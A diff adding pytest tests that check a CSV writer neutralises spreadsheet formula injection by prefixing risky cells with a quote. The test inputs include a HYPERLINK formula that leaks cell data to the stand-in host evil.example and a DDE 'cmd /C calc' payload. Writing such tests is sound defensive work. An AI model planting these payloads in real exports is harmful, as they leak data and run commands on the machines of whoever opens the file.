@@ -85,3 +85,20 @@ def test_no_rows_writes_the_header() -> None:
 def test_unknown_kind_is_refused() -> None:
     with pytest.raises(ValueError, match="redline, stance, event"):
         write_csv([], io.StringIO(), "lines")
+
+
+@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r"])
+def test_cells_that_would_start_a_formula_are_neutralised(prefix: str) -> None:
+    hostile = f'{prefix}HYPERLINK("http://evil.example/?leak="&A1,"click")'
+    row = {**STANCE, "proposal": hostile, "speaker": prefix + "cmd|' /C calc'!A0",
+           "evidence": [{"text": hostile, "span": [0, len(hostile)]}]}
+    [back] = read_back([row], "stance")
+    assert back["proposal"] == "'" + hostile
+    assert back["speaker"] == "'" + prefix + "cmd|' /C calc'!A0"
+    assert back["evidence"] == "'" + hostile
+    assert back["actor"] == "KST" and back["spans"] == f"0-{len(hostile)}"  # ordinary cells stay as they are
+
+
+def test_a_formula_sign_inside_a_cell_is_left_alone() -> None:
+    row = {**STANCE, "proposal": "a 2+2 plan = peace @ home - maybe"}
+    assert read_back([row], "stance")[0]["proposal"] == "a 2+2 plan = peace @ home - maybe"
